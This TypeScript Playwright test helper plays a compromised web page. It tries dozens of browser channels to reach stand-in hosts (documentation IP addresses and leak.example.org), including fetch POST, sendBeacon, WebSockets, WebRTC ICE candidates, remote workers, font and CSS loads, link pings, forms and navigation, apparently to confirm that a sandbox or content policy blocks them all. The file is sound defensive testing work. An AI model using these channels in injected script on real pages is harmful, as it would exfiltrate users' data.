import type { Page } from '@playwright/test'

/** Addresses that nobody has (RFC 5737, RFC 3849), one of this computer, and a name. */
const ELSEWHERE = ['198.51.100.7:7777', '[2001:db8::7]:7777', '127.0.0.1:7777', 'leak.example.org']

/**
 * Tries, as a page that was taken over would, everything by which a page can reach another computer, and waits a little for what
 * comes of it. Answers how many attempts were made. That most of them throw is as good as their failing in silence.
 */
export async function tryEveryWayOut(page: Page): Promise<number> {
  let attempts = 0
  for (const host of ELSEWHERE) {
    attempts += await page.evaluate(tryConnections, host)
    attempts += await page.evaluate(tryElements, host)
    attempts += await page.evaluate(tryLeaving, host)
  }
  await page.waitForTimeout(1_500)
  return attempts
}

function tryConnections(host: string): number {
  const word = 'kanariefagel'
  const attempts: (() => unknown)[] = [
    () => fetch(`http://${host}/${word}`, { mode: 'no-cors', method: 'POST', body: word, keepalive: true }),
    () => fetch(`https://${host}/${word}`, { mode: 'no-cors' }),
    () => {
      const request = new XMLHttpRequest()
      request.open('GET', `http://${host}/${word}`)
      request.send()
    },
    () => navigator.sendBeacon(`http://${host}/${word}`, word),
    () => new WebSocket(`ws://${host}/${word}`),
    () => new WebSocket(`wss://${host}/${word}`),
    () => new EventSource(`http://${host}/${word}`),
    () => new WebTransport(`https://${host}/${word}`),
    () => new Worker(`http://${host}/worker.js`),
    () => new SharedWorker(`http://${host}/worker.js`),
    () => navigator.serviceWorker.register(`http://${host}/worker.js`),
    () => document.fonts.add(new FontFace('leak', `url(http://${host}/${word})`)),
    () => new FontFace('leak', `url(http://${host}/${word})`).load(),
    async () => {
      const servers = ['stun:', 'turn:', 'turns:'].flatMap(scheme =>
        ['udp', 'tcp'].map(transport => ({
          urls: scheme === 'stun:' ? `stun:${host}` : `${scheme}${host}?transport=${transport}`,
          ...(scheme === 'stun:' ? {} : { username: word, credential: word })
        }))
      )
      const caller = new RTCPeerConnection({ iceServers: servers, iceCandidatePoolSize: 4 })
      caller.createDataChannel(word)
      const offer = await caller.createOffer()
      await caller.setLocalDescription(offer)
      const [address = '', port = '3478'] = host.startsWith('[')
        ? [host.slice(1, host.indexOf(']')), '7777']
        : host.split(':')
      const line = `candidate:1 1 UDP 2122252543 ${address} ${port} typ host`
      const answerer = new RTCPeerConnection()
      await answerer.setRemoteDescription(offer)
      await answerer.setLocalDescription(await answerer.createAnswer())
      if (answerer.localDescription !== null) await caller.setRemoteDescription(answerer.localDescription)
      await caller.addIceCandidate({ candidate: line, sdpMid: '0', sdpMLineIndex: 0 })
      await answerer.addIceCandidate({ candidate: line, sdpMid: '0', sdpMLineIndex: 0 })
    },
    () => navigator.mediaDevices.getUserMedia({ audio: true }),
    () => navigator.geolocation.getCurrentPosition(() => null)
  ]
  return attempts.filter(attempt => {
    try {
      void Promise.resolve(attempt()).catch(() => null)
    } catch {
      // Refused at once, which is as good.
    }
    return true
  }).length
}

function tryElements(host: string): number {
  const links = 'stylesheet preload prefetch preconnect dns-prefetch modulepreload icon manifest prerender'.split(' ')
  const elements: [tag: string, attributes: Record<string, string>][] = [
    ...links.map((rel): [string, Record<string, string>] => [
      'link',
      { rel, as: 'script', href: `http://${host}/${rel}` }
    ]),
    ['img', { src: `http://${host}/image`, srcset: `http://${host}/image2 2x` }],
    ['video', { src: `http://${host}/video`, poster: `http://${host}/poster` }],
    ['audio', { src: `http://${host}/audio` }],
    ['iframe', { src: `http://${host}/frame` }],
    ['object', { data: `http://${host}/object` }],
    ['embed', { src: `http://${host}/embed` }],
    ['input', { type: 'image', src: `http://${host}/input` }],
    ['meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }],
    ['base', { href: `http://${host}/` }]
  ]
  for (const [tag, attributes] of elements) {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(name, value)
      } catch {
        // Trusted Types refuse it.
      }
    }
    document.head.append(element)
  }
  const sheet = new CSSStyleSheet()
  sheet.replaceSync(
    `body { background: url(http://${host}/style) } @font-face { font-family: x; src: url(http://${host}/font) } h1 { font-family: x }`
  )
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
  return elements.length + 1
}

function tryLeaving(host: string): number {
  const form = document.createElement('form')
  form.method = 'post'
  form.action = `http://${host}/form`
  const link = document.createElement('a')
  link.href = `http://${host}/link`
  link.setAttribute('ping', `http://${host}/ping`)
  const download = document.createElement('a')
  download.href = `http://${host}/download`
  download.download = 'leak'
  const refresh = document.createElement('meta')
  refresh.httpEquiv = 'refresh'
  refresh.content = `0;url=http://${host}/refresh`
  document.body.append(form, link, download)
  const attempts = [
    () => form.submit(),
    () => link.click(),
    () => download.click(),
    () => document.head.append(refresh),
    () => window.open(`http://${host}/window`),
    () => location.assign(`http://${host}/assign`)
  ]
  for (const attempt of attempts) attempt()
  return attempts.length
}
